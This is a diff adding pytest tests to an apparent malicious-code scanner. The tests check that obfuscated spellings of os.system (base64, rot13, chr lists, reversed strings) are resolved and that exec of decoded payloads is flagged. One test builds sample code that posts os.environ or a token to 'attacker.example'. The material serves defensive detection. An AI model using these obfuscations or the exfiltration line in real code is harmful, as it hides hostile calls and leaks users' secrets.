@@ -52,6 +52,90 @@ def test_names_of_a_command(source: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "expression",
+    [
+        "'metsys'[::-1]",
+        "'xsystemx'[1:-1]",
+        "''.join(['sys', 'tem'])",
+        "''.join(('s', 'y', 's', 't', 'e', 'm'))",
+        "''.join(reversed('metsys'))",
+        "''.join(map(chr, [115, 121, 115, 116, 101, 109]))",
+        "''.join(chr(i) for i in (115, 121, 115, 116, 101, 109))",
+        "''.join([chr(i ^ 1) for i in b'rxrudl'])",
+        "chr(115) + 'ystem'",
+        "str('system')",
+        "'%s%s' % ('sys', 'tem')",
+        "f\"{'sys'}tem\"",
+        "'SYSTEM'.lower()",
+        "' system '.strip()",
+        "'s-y-s-t-e-m'.replace('-', '')",
+        "b'system'.decode()",
+        "bytes([115, 121, 115, 116, 101, 109]).decode()",
+        "bytes.fromhex('73797374656d').decode('ascii')",
+        "base64.b64decode('c3lzdGVt').decode()",
+        "base64.b64decode(b'c3lzdGVt').decode()",
+        "base64.b64decode(base64.b64decode('YzNsemRHVnQ=')).decode()",
+        "codecs.decode('flfgrz', 'rot13')",
+        "name",
+    ],
+)
+def test_names_that_are_put_together(expression: str) -> None:
+    """A name that constants make is the name, in whatever way they make it."""
+    source = "import os, base64, codecs\nname = 'sys' + 'tem'\ngetattr(os, {})('x')"
+    assert "os.system" in _names(source.format(expression))
+
+
+@pytest.mark.parametrize(
+    "expression",
+    [
+        "name", "'a'[x]", "'a'[::0]", "'a'[9]", "''.join(x)", "x.join(['a'])", "''.join([x])",
+        "chr(-1)", "chr(x)", "chr(9999999)", "''.join(chr(i) for i in x)", "'a' - 'b'",
+        "''.join(chr(i) for i in (1,) if i)", "''.join(f(i) for i in (1,))", "x % 'a'", "'a' % x",
+        "''.join(map(chr, [-1]))", "'a'.replace(x, 'b')", "'a'.center(3)", "b'\\xff'.decode()",
+        "bytes([999]).decode()", "bytes.fromhex('zz').decode()", "bytes.fromhex('é').decode()",
+        "codecs.decode('a', 'hex')", "codecs.decode('a')", "f'{x}'", "'a' * 300", "'a' + x",
+        "'" + "a" * 300 + "'", "f'{name!r:>{x}}'", "base64.b64decode(x).decode()",
+    ],
+)  # fmt: skip
+def test_names_that_are_not_constant(expression: str) -> None:
+    """What is no constant name is one that is computed."""
+    source = f"import os\nname = input()\ngetattr(os, {expression})('x')"
+    assert {name for name in _names(source) if name.startswith("os.")} <= {"os.?"}
+
+
+def test_what_the_environment_holds_is_sent() -> None:
+    """Passing the environment to the network is grave, also by way of a name; reading it is not."""
+    template = "import os, requests, json\n{}\nrequests.post('http://attacker.example/', {})"
+    for before, argument in (
+        ("", "os.environ"),
+        ("", "json=dict(os.environ)"),
+        ("token = os.getenv('TOKEN')", "data=token"),
+        ("a = {'x': os.environ['X']}\nb = json.dumps(a)", "b"),
+    ):
+        source = template.format(before, argument).encode()
+        found = findings_of(RULE, examined(source, format=FileFormat.PYTHON_SOURCE))
+        assert "sends what the environment holds" in found[0].message
+        assert found[0].severity is Severity.HIGH
+    harmless = template.format("token = os.getenv('TOKEN')", "{}").encode()
+    (finding,) = findings_of(RULE, examined(harmless, format=FileFormat.PYTHON_SOURCE))
+    assert finding.severity is Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64\nx = base64.b64decode('eA==')\nexec(x)",
+        "import zlib, marshal\nx = zlib.decompress(b'')\ny = x.strip()\nexec(compile(y, '', 'exec'))",
+        "import codecs\nf = codecs.decode\neval(f('x', 'rot13'))",
+    ],
+)
+def test_decoded_code_by_way_of_names(source: str) -> None:
+    """Running what was decoded is the gravest, also where it was kept under a name."""
+    found = findings_of(RULE, examined(source.encode(), format=FileFormat.PYTHON_SOURCE))
+    assert Severity.CRITICAL in {f.severity for f in found}
+
+
+@pytest.mark.parametrize(
     ("source", "name"),
     [
         ("__builtins__.eval('x')", "eval"),
